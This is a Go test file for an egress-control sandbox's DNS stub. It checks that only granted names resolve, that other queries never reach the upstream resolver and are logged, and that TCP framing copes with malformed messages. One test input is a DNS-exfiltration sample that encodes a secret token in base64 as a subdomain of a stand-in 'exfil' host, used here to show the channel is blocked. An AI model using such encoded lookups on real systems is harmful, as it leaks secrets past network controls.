package egress_test

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/netip"
	"slices"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/mcpcell/mcpcell/internal/egress"
)

// stubResolver is a Go resolver that asks only the cell's stub, as the
// server's resolver does in the namespace.
func stubResolver(c *cell, network string) *net.Resolver {
	return &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, c.dns(network == "udp"))
	}}
}

// TestStubIsNoChannel asks the stub for names from inside the cell: a
// granted name gets the plan's address, any other name NXDOMAIN, and the
// resolver the relay uses never sees either query. The control shows
// that it sees the relay's own lookup of a granted name.
func TestStubIsNoChannel(t *testing.T) {
	in := newInternet(t)
	for _, network := range []string{"udp", "tcp"} {
		t.Run(network, func(t *testing.T) {
			c := newCell(t, in, []string{"api.example.test:443", "*.cdn.example.test:443"})
			r := stubResolver(c, network)
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			before := len(in.dns.Queries())

			got, err := r.LookupNetIP(ctx, "ip4", "api.example.test")
			if want := []netip.Addr{netip.MustParseAddr("127.77.0.1")}; err != nil || !slices.Equal(got, want) {
				t.Errorf("api.example.test: %v, %v; want %v", got, err, want)
			}
			got, err = r.LookupNetIP(ctx, "ip", "x.cdn.example.test")
			if want := []netip.Addr{netip.MustParseAddr("127.77.0.2")}; err != nil || !slices.Equal(got, want) {
				t.Errorf("x.cdn.example.test: %v, %v; want %v", got, err, want)
			}
			secret := "c2VjcmV0LXRva2Vu.exfil.example.test"
			for _, name := range []string{secret, "other.example.test", "pub.example.test"} {
				got, err := r.LookupNetIP(ctx, "ip", name)
				var dnsErr *net.DNSError
				if !errors.As(err, &dnsErr) || !dnsErr.IsNotFound {
					t.Errorf("%s: %v, %v; want not found (NXDOMAIN)", name, got, err)
				}
			}
			if seen := in.dns.Queries()[before:]; len(seen) != 0 {
				t.Errorf("the relay's resolver saw the cell's queries: %q", seen)
			}

			// Control: the relay's own lookup of a granted name does reach it.
			if _, err := tlsGet(c.host("api.example.test", 443), "api.example.test", in.pool); err != nil {
				t.Fatal(err)
			}
			if !slices.Contains(in.dns.Queries()[before:], "TypeA api.example.test") {
				t.Errorf("control: the resolver saw %q, want the relay's lookup of api.example.test", in.dns.Queries()[before:])
			}

			records := c.close()
			r2, ok := find(records, egress.KindDNS, "c2vjcmv0lxrva2vu.exfil.example.test")
			if !ok || r2.Count < 1 {
				t.Errorf("no DNS record of the refused name: %+v", records)
			}
		})
	}
}

// TestStubTCPFraming sends two queries in one TCP segment and a garbage
// length; the stub answers both, then ends the connection.
func TestStubTCPFraming(t *testing.T) {
	in := newInternet(t)
	c := newCell(t, in, []string{"api.example.test:443"})
	conn, err := net.Dial("tcp", c.dns(false))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	var out []byte
	for _, name := range []string{"api.example.test.", "nope.example.test."} {
		q := dnsmessage.Message{Header: dnsmessage.Header{ID: 7}, Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
		b, err := q.Pack()
		if err != nil {
			t.Fatal(err)
		}
		out = binary.BigEndian.AppendUint16(out, uint16(len(b)))
		out = append(out, b...)
	}
	out = append(out, 0, 3, 1, 2, 3) // a message shorter than a header
	if _, err := conn.Write(out); err != nil {
		t.Fatal(err)
	}
	for _, want := range []dnsmessage.RCode{dnsmessage.RCodeSuccess, dnsmessage.RCodeNameError} {
		var l [2]byte
		if _, err := io.ReadFull(conn, l[:]); err != nil {
			t.Fatal(err)
		}
		b := make([]byte, binary.BigEndian.Uint16(l[:]))
		if _, err := io.ReadFull(conn, b); err != nil {
			t.Fatal(err)
		}
		var m dnsmessage.Message
		if err := m.Unpack(b); err != nil || m.Header.RCode != want {
			t.Errorf("answer %v, %v; want %v", m.Header, err, want)
		}
	}
	if n, err := conn.Read(make([]byte, 1)); err != io.EOF {
		t.Errorf("after a malformed message: read %d, %v; want EOF", n, err)
	}
}
